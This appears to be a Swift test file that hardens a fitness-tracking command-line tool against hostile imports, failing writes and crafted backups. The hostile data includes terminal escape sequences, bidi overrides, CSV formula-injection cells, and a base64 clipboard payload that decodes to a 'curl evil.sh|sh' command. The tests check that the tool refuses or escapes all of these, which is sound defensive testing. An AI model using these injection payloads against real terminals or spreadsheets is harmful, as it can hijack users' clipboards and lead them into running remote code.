import Foundation
import Testing

/// Hostile files, failing writes and crafted backups against the built binary (issue: nothing lost,
/// nothing injected). Each test has its own data folder.
@Suite struct HostileInputTests {
    typealias DataDir = BrowseCommandTests.DataDir

    /// Bytes that must never reach a terminal from data: ESC, BEL, C1 controls, bidi overrides.
    static func rawControls(in text: String) -> [String] {
        text.unicodeScalars.filter { s in
            (s.value < 0x20 && s != "\n" && s != "\r" && s != "\t") || (0x7F...0x9F).contains(s.value)
                || (0x202A...0x202E).contains(s.value) || (0x2066...0x2069).contains(s.value)
        }.map { String(format: "U+%04X", $0.value) }
    }

    static let sqlite3Available = FileManager.default.isExecutableFile(atPath: "/usr/bin/sqlite3")

    static func profile(_ data: DataDir) async throws {
        let set = try await data.run("profile", "set", "experience=regular", "goal=stamina", "weekly-km=30", "run-days=mon,wed,sat",
                               "long-run-day=sat", "strength-days=2", "session-minutes=30")
        #expect(set.status == 0, "\(set.stderr)")
    }

    static func write(_ text: String, to name: String, in data: DataDir) throws -> String {
        let path = data.url.appending(path: name).path
        try text.write(toFile: path, atomically: true, encoding: .utf8)
        return path
    }

    /// Records whose id, name or level carry ESC ] 52 (set the clipboard), a retitle, BEL and U+202E:
    /// every record is refused naming it, nothing raw is printed, and storing nothing exits 1.
    @Test func aHostileExerciseFileIsRefusedAndNothingRawIsPrinted() async throws {
        let data = DataDir()
        let records = [
            #"{"id": "Evil\u001b]52;c;Y3VybCBldmlsLnNofHNo\u0007", "name": "A", "level": "beginner", "category": "strength"}"#,
            #"{"id": "Title", "name": "Squat\u001b]0;owned\u0007", "level": "beginner", "category": "strength"}"#,
            #"{"id": "Bidi", "name": "Squat \u202etauqs", "level": "beginner", "category": "strength"}"#,
            #"{"id": "Level", "name": "Lunge", "level": "beginner\u009b31m", "category": "strength"}"#,
        ]
        let file = try Self.write("[" + records.joined(separator: ",\n") + "]", to: "hostile.json", in: data)
        let result = try await data.run("import", file)
        #expect(result.status == 1)
        #expect(Self.rawControls(in: result.stdout + result.stderr).isEmpty)
        #expect(result.stderr.contains("4 records: 0 cards, 4 not imported"))
        #expect(result.stderr.contains(#"field "id" holds control characters"#))
        #expect(result.stderr.contains(#"field "name" holds control characters"#))
        #expect(result.stderr.contains("nothing was imported"))
        await #expect(!(try data.run("exercises", "--search", "squat").stdout.contains("tauqs")))
    }

    /// A file that starts with a UTF-8 byte-order mark is read as the JSON it is, and a byte that is not
    /// UTF-8 refuses only the record holding it, as `import --help` promises (issue 23: the mark was
    /// refused as "not an exercise file", one bad byte refused the whole file).
    @Test func aByteOrderMarkIsReadAndABadByteRefusesOnlyItsRecord() async throws {
        let data = DataDir()
        let good = #"{"id": "Good_Lunge", "name": "Walking lunge", "level": "beginner", "category": "strength", "instructions": ["Step."]}"#
        let bad = #"{"id": "Bad_Row", "name": "Row"# + "\u{1}" + #"", "level": "beginner", "category": "strength", "instructions": ["Pull."]}"#
        var bytes: [UInt8] = [0xEF, 0xBB, 0xBF] + Array(("[" + good + ",\n" + bad + "]").utf8)
        let marker = try #require(bytes.firstIndex(of: 0x01))
        bytes[marker] = 0xFF
        let file = data.url.appending(path: "bom.json")
        try FileManager.default.createDirectory(at: data.url, withIntermediateDirectories: true)
        try Data(bytes).write(to: file)
        let result = try await data.run("import", file.path)
        #expect(result.status == 0, "\(result.stderr)")
        #expect((result.stdout + result.stderr).contains(#"field "name" holds bytes that are not UTF-8 text"#))
        let listed = try await data.run("exercises", "--search", "lunge").stdout
        #expect(listed.contains("Walking lunge"))
        await #expect(!(try data.run("exercises", "--search", "row").stdout.contains("Bad_Row")))
    }

    /// Data that reached the store some other way (an older version, another program) is still
    /// printed escaped by every command, and CSV cells that would start a formula are written as text.
    @Test(.enabled(if: sqlite3Available, "needs /usr/bin/sqlite3"))
    func everyCommandPrintsDataEscaped() async throws {
        let data = DataDir()
        let good = try Self.write(#"[{"id": "Good", "name": "Goblet squat", "level": "beginner", "category": "strength", "instructions": ["Squat."]}]"#,
                                  to: "good.json", in: data)
        await #expect(try data.run("import", good).status == 0)
        let db = data.url.appending(path: "legwork.sqlite").path
        let sql = #"""
            UPDATE imported_card SET json = replace(json, 'Goblet squat', 'Goblet\u001b]52;c;Y3VybA==\u0007 squat \u202e');
            INSERT INTO session (id, kind, title, started_at, utc_offset, ended_at, status, planned_seconds, notes)
              VALUES (1, 'strength', '=HYPERLINK("http://evil")' || char(27) || '[2J', 1700000000, 0, 1700000600, 'completed', 600, '@SUM(1)' || char(7));
            INSERT INTO set_log (session_id, exercise_id, set_number, side, reps, started_at, ended_at, notes)
              VALUES (1, 'fedb:good', 1, 'both', 10, 1700000000, 1700000060, '+cmd' || char(27) || ']0;x' || char(7));
            """#
        let update = try await Command.run(["/usr/bin/sqlite3", db, sql])
        #expect(update.status == 0, "\(update.stderr)")
        // The catalog refuses the card (its name holds control characters): the commands that list
        // cards list the others and say so, in words with the characters escaped; the card itself is not
        // found; the others print the data escaped.
        for (arguments, status) in [(["exercises"], 0), (["exercises", "--json"], 0), (["card", "fedb:good", "--plain"], 1),
                                    (["history", "--csv"], 0), (["history", "--json"], 0), (["export"], 0), (["export", "--csv"], 0)] {
            let result = try await Command.run([TmuxSession.binary.path, "--data-dir", data.url.path] + arguments)
            #expect(result.status == Int32(status), "\(arguments): \(result.stderr)")
            #expect(Self.rawControls(in: result.stdout + result.stderr).isEmpty, "\(arguments) printed \(Self.rawControls(in: result.stdout))")
        }
        let listed = try await data.run("exercises")
        #expect(listed.stderr.contains(#"field "name": holds control characters"#))
        #expect(listed.stdout.contains("Glute bridge") && !listed.stdout.contains("Goblet"), "the built-in cards are listed, the refused one is not")
        let csv = try await data.run("history", "--csv").stdout
        #expect(csv.contains(#""'=HYPERLINK(""http://evil"")\u{1B}[2J""#))
        #expect(csv.contains(#""'+cmd\u{1B}]0;x\u{7}""#))
        // JSON keeps the value (escaped the JSON way), so a backup restores exactly what was stored.
        let json = try await data.run("export").stdout
        #expect(json.contains(#"\u001b]52;c;Y3VybA==\u0007 squat \u202E"#))
    }

    // MARK: - Writes

    @Test func aFullDiskExitsOneWithTheSystemsReason() async throws {
        let data = DataDir()
        try await Self.profile(data)
        let binary = TmuxSession.binary.path, dir = data.url.path
        for command in ["exercises", "export", "history --csv", "plan --json", "plan --ics", "card step_up --plain", "--help", "plan --help", "--version"] {
            let result = try await Command.run(["/bin/sh", "-c", "\"$0\" --data-dir \"$1\" \(command) > /dev/full", binary, dir])
            #expect(result.status == 1, "\(command)")
            #expect(result.stderr == "legwork: cannot write to standard output: No space left on device\n", "\(command)")
        }
        let exported = try await data.run("export", "-o", "/dev/full", "--force")
        #expect(exported.status == 1)
        #expect(exported.stderr == "legwork: /dev/full is a device, not a file; use -o - for standard output\n")
    }

    @Test func aClosedStandardErrorOrPipeNeverCrashes() async throws {
        let data = DataDir()
        let binary = TmuxSession.binary.path, dir = data.url.path
        let closedErr = try await Command.run(["/bin/sh", "-c", "\"$0\" --data-dir \"$1\" card nope 2>&-", binary, dir])
        #expect(closedErr.status == 1)
        // A reader that goes away ends the program quietly (SIGPIPE, as other tools), never 132.
        let piped = try await Command.run(["/bin/bash", "-c", "\"$0\" --data-dir \"$1\" exercises --json | head -c 10 >/dev/null; echo ${PIPESTATUS[0]}", binary, dir])
        #expect(["0\n", "141\n"].contains(piped.stdout), "status \(piped.stdout)")
        #expect(piped.stderr.isEmpty)
    }

    @Test func outputFilesAreRegularFilesReplacedInOneStep() async throws {
        let data = DataDir()
        let dir = data.url.path
        // -o - is standard output, never a file named "-".
        let dash = try await data.run("export", "-o", "-")
        #expect(dash.status == 0 && dash.stdout.contains("\"format\" : \"legwork-backup\""))
        #expect(!FileManager.default.fileExists(atPath: dir + "/-"))
        // A link is followed: the file it points to is replaced and the link stays a link.
        try "old".write(toFile: dir + "/real.json", atomically: true, encoding: .utf8)
        try FileManager.default.createSymbolicLink(atPath: dir + "/link.json", withDestinationPath: "real.json")
        await #expect(try data.run("export", "-o", dir + "/link.json").status == 1)   // exists, no --force
        let linked = try await data.run("export", "-o", dir + "/link.json", "--force")
        #expect(linked.status == 0, "\(linked.stderr)")
        #expect(try FileManager.default.destinationOfSymbolicLink(atPath: dir + "/link.json") == "real.json")
        #expect(try String(contentsOfFile: dir + "/real.json", encoding: .utf8).contains("legwork-backup"))
        // A FIFO and a folder are refused, even with --force.
        #expect(mkfifo(dir + "/fifo", 0o600) == 0)
        let fifo = try await data.run("export", "-o", dir + "/fifo", "--force")
        #expect(fifo.status == 1 && fifo.stderr.contains("is a pipe (FIFO), not a file"))
        let folder = try await data.run("export", "-o", dir, "--force")
        #expect(folder.status == 1 && folder.stderr.contains("is a folder"))
        // No temporary file is left behind, and one left by a killed export is removed by the next.
        try "half".write(toFile: dir + "/.real.json.legwork-999999-abcdef", atomically: true, encoding: .utf8)
        await #expect(try data.run("export", "-o", dir + "/real.json", "--force").status == 0)
        let leftovers = try FileManager.default.contentsOfDirectory(atPath: dir).filter { $0.contains(".legwork-") }
        #expect(leftovers.isEmpty, "\(leftovers)")
    }

    // MARK: - The store file and backups

    /// The write-ahead log is folded back when Legwork ends: legwork.sqlite copied alone holds the session.
    @Test(.enabled(if: sqlite3Available, "needs /usr/bin/sqlite3"))
    func theDatabaseFileCopiedAloneHoldsEverySession() async throws {
        let data = DataDir()
        try await Self.profile(data)
        for _ in 0..<2 {
            let run = try await Command.run([TmuxSession.binary.path, "--data-dir", data.url.path, "--speed", "400", "stretch", "--minutes", "5", "--plain"])
            #expect(run.status == 0, "\(run.stderr)")
        }
        let copy = data.url.appending(path: "copy.sqlite").path
        try FileManager.default.copyItem(atPath: data.url.appending(path: "legwork.sqlite").path, toPath: copy)
        let count = try await Command.run(["/usr/bin/sqlite3", copy, "SELECT COUNT(*) FROM session WHERE status = 'completed'"])
        #expect(count.stdout == "2\n")
    }

    /// A backup taken while a session is interrupted restores; one whose saved time is 1e15 restores
    /// without it (said so), and sessions still start.
    @Test func backupsWithAnInterruptedSessionRestore() async throws {
        let data = DataDir()
        try await Self.profile(data)
        // An interrupted session: the plain runner killed by SIGKILL once its progress is stored (waited
        // for, not timed: a busy machine may take seconds to get there).
        let started = try await Command.run(["/bin/sh", "-c", "\"$0\" --data-dir \"$1\" --speed 30 session next --plain >/dev/null 2>&1 & echo $!",
                                       TmuxSession.binary.path, data.url.path])
        let pid = try #require(pid_t(started.stdout.trimmingCharacters(in: .whitespacesAndNewlines)))
        defer { kill(pid, SIGKILL) }
        let backupPath = data.url.appending(path: "with-session.json").path
        var text = ""
        let deadline = Date().addingTimeInterval(60)
        while !text.contains("session-in-progress") && Date() < deadline {
            let export = try await data.run("export", "--force", "-o", backupPath)
            try #require(export.status == 0, "\(export.stderr)")
            text = try String(contentsOfFile: backupPath, encoding: .utf8)
        }
        kill(pid, SIGKILL)
        #expect(text.contains("session-in-progress"))
        #expect(text.distance(from: text.startIndex, to: text.range(of: "\"format\"")!.lowerBound) > 4096)

        let restoredDir = DataDir()
        let restored = try await restoredDir.run("import", backupPath)
        #expect(restored.status == 0, "\(restored.stderr)")
        #expect(restored.stdout.hasPrefix("restored 1 sessions"))

        // The same backup with a saved time of 1e15 s.
        let crafted = text.replacingOccurrences(of: #""elapsed" : "#, with: #""elapsed" : 1e15, "was" : "#)
        #expect(crafted != text)
        let craftedPath = try Self.write(crafted, to: "crafted.json", in: restoredDir)
        let craftedDir = DataDir()
        let craftedRestore = try await craftedDir.run("import", craftedPath)
        #expect(craftedRestore.status == 0, "\(craftedRestore.stderr)")
        #expect(craftedRestore.stdout.contains("the session in progress was left out"))
        let start = try await Command.run([TmuxSession.binary.path, "--data-dir", craftedDir.url.path, "--speed", "400", "stretch", "--minutes", "5", "--plain"])
        #expect(start.status == 0, "\(start.stderr)")
    }

    /// An imported card in a backup may not take a built-in card's id.
    @Test func aBackupCannotShadowABuiltInCard() async throws {
        let data = DataDir()
        let good = try Self.write(#"[{"id": "Good", "name": "Goblet squat", "level": "beginner", "category": "strength", "instructions": ["Squat."]}]"#,
                                  to: "good.json", in: data)
        await #expect(try data.run("import", good).status == 0)
        let exported = try await data.run("export").stdout
        let crafted = exported.replacingOccurrences(of: "\"fedb:good\"", with: "\"glute_bridge\"")
        #expect(crafted != exported)
        let other = DataDir()
        let path = try Self.write(crafted, to: "crafted.json", in: other)
        let restore = try await other.run("import", path)
        #expect(restore.status == 0, "\(restore.stderr)")
        #expect(restore.stdout.contains("1 imported card failed the catalog's checks and was left out"))
        let card = try await other.run("card", "glute_bridge", "--plain")
        #expect(card.status == 0)
        #expect(card.stdout.hasPrefix("Glute bridge"))
    }

    @Test func aTrailingCommaInAnExerciseFileIsInvalidJSON() async throws {
        let data = DataDir()
        let path = try Self.write(#"[{"id": "A", "name": "A", "level": "beginner", "category": "strength"},]"#, to: "comma.json", in: data)
        let result = try await data.run("import", path)
        #expect(result.status == 1)
        #expect(result.stderr.contains("line 1, column 72: remove the comma after the last item of this list"))
    }

    /// Two sessions on one store: the second copy says another one runs, and neither resumes, abandons
    /// (`--fresh`, the stretch) nor overwrites it; once the first ends, the lock is free again.
    @Test(.enabled(if: sqlite3Available, "needs /usr/bin/sqlite3"))
    func aSecondCopyLeavesTheRunningSessionAlone() async throws {
        let data = DataDir()
        try await Self.profile(data)
        let started = try await Command.run(["/bin/sh", "-c", "sleep 60 | \"$0\" --data-dir \"$1\" session next --plain >/dev/null 2>&1 & echo $!",
                                       TmuxSession.binary.path, data.url.path])
        let pid = try #require(pid_t(started.stdout.trimmingCharacters(in: .whitespacesAndNewlines)))
        defer { kill(pid, SIGKILL) }
        let db = data.url.appending(path: "legwork.sqlite").path
        // Wait until the first copy has begun its session row.
        for _ in 0..<100 {
            if await (try? Command.run(["/usr/bin/sqlite3", db, "SELECT COUNT(*) FROM session"]))?.stdout == "1\n" { break }
            try? await Task.sleep(nanoseconds: 50_000_000)
        }
        for arguments in [["session", "next", "--plain"], ["session", "next", "--plain", "--fresh"], ["stretch", "--plain", "--fresh"]] {
            let second = try await Command.run([TmuxSession.binary.path, "--data-dir", data.url.path] + arguments)
            #expect(second.status == 1, "\(arguments)")
            #expect(second.stderr.contains("another Legwork (process \(pid)) is running a session on this data"), "\(arguments): \(second.stderr)")
        }
        let rows = try await Command.run(["/usr/bin/sqlite3", db, "SELECT id, status FROM session"])
        #expect(rows.stdout == "1|in-progress\n")
        kill(pid, SIGKILL)
        // A killed copy leaves no stale lock: the next copy resumes the interrupted session.
        await Command.waitUntilEnded(pid)
        let after = try await data.run("session", "next", "--plain", "--speed", "1000")
        #expect(after.status == 0, "\(after.stderr)")
        #expect(after.stdout.contains("Resuming"))
    }

    /// Imported cards, not reviewed for runners, enter the plan only after `imported-cards=on`.
    @Test(.enabled(if: BrowseCommandTests.dataSet != nil, "needs the shared free-exercise-db data set"))
    func importedCardsStayOutOfThePlanUntilTurnedOn() async throws {
        let data = DataDir()
        await #expect(try data.run("profile", "set", "experience=regular", "goal=race", "race-distance=marathon", "race-date=2027-01-10",
                             "weekly-km=50", "run-days=mon,wed,sat", "long-run-day=sat", "strength-days=2").status == 0)
        await #expect(try data.run("import", BrowseCommandTests.dataSet!).status == 0)
        await #expect(try data.run("profile", "show").stdout.contains("imported-cards:  off"))
        await #expect(!(try data.run("plan", "--json").stdout.contains("\"fedb:")))
        let on = try await data.run("profile", "set", "imported-cards=on")
        #expect(on.status == 0 && on.stdout.contains("imported-cards:  on"))
        // Turned on, imported cards may enter the plan; Legwork's own cards still rank first, so the plan
        // of a runner with common equipment can stay the same.
        await #expect(try data.run("plan", "--json").status == 0)
        let wrong = try await data.run("profile", "set", "imported-cards=maybe")
        #expect(wrong.status == 2)
    }

    /// Messages in the system's words, never "NSCocoaErrorDomain error 512".
    @Test func fileErrorsAreSaidInWords() async throws {
        let data = DataDir()
        let folder = try await data.run("import", data.url.path)
        #expect(folder.stderr == "legwork: \(data.url.path) is a folder without activity files (GPX, TCX or a Strava activities.csv); give a file inside it\n")
        let missing = try await data.run("import", data.url.path + "/missing.json")
        #expect(missing.stderr == "legwork: cannot read \(data.url.path)/missing.json: No such file or directory\n")
        let notDir = try await Command.run([TmuxSession.binary.path, "--data-dir", "/dev/null/legwork", "exercises"])
        #expect(notDir.status == 1)
        #expect(notDir.stderr.contains("cannot create the data folder /dev/null/legwork (Not a directory)"))
        #expect(!(folder.stderr + missing.stderr + notDir.stderr).contains("NSCocoaErrorDomain"))
    }

    /// `--speed 1e-300` would freeze every clock; the contract's exit 2 for bad usage.
    @Test func aSpeedThatFreezesTheClockIsRefused() async throws {
        let data = DataDir()
        for speed in ["1e-300", "0", "nan", "inf", "2000", "-1", "-0.5"] {
            let result = try await data.run("--speed", speed, "exercises")
            #expect(result.status == 2, "\(speed)")
            #expect(result.stderr.contains("--speed must be a number from 0.01 to 1000"), "\(speed)")
        }
    }

    /// `--plain` refuses a load of inf (and 1000 kg) with the reason, and the session goes on.
    @Test func plainEntriesOutOfRangeAreRefused() async throws {
        let data = DataDir()
        try await Self.profile(data)
        let input = try Self.write("12 inf\n12 1000\n\n\n\n\n\n\n\n\n\n\n", to: "entries.txt", in: data)
        let run = try await Command.run(["/bin/sh", "-c", "\"$0\" --data-dir \"$1\" --speed 1000 session next --plain < \"$2\"",
                                   TmuxSession.binary.path, data.url.path, input])
        #expect(run.status == 0, "\(run.stderr)")
        #expect(run.stdout.contains("load \"inf\" is not a weight: a number (in kg), or 25lb, 11kg"))
        #expect(run.stdout.contains("load must be at most 500 kg, not 1000"))
        // A hold is not asked reps in reserve, so none is stored for it.
        let sets = try await data.run("history", "--csv").stdout.split(separator: "\r\n").map { $0.split(separator: ",", omittingEmptySubsequences: false) }
        let holds = sets.filter { $0.count == 13 && !$0[7].isEmpty && $0[7] != "seconds" }
        #expect(!holds.isEmpty)
        #expect(holds.allSatisfy { $0[8].isEmpty }, "\(holds)")
    }

    /// Bounded input: a 5-million-character log line is answered once and dropped; a 300 MB file is
    /// refused before it is read.
    @Test func overlongInputIsBounded() async throws {
        let data = DataDir()
        let input = try Self.write(String(repeating: "9", count: 5_000_000) + "\n", to: "long.txt", in: data)
        let run = try await Command.run(["/bin/sh", "-c", "\"$0\" --data-dir \"$1\" --speed 1000 session today --plain < \"$2\"",
                                   TmuxSession.binary.path, data.url.path, input])
        #expect(run.status == 0, "\(run.stderr)")
        #expect(run.stdout.components(separatedBy: "Not understood:").count == 2)
        let big = data.url.appending(path: "big.json").path
        #expect(FileManager.default.createFile(atPath: big, contents: nil))
        #expect(truncate(big, 300_000_000) == 0)
        let result = try await data.run("import", big)
        #expect(result.status == 1)
        #expect(result.stderr.contains("is 300 MB; Legwork reads exercise files and backups up to 200 MB"))
    }
}
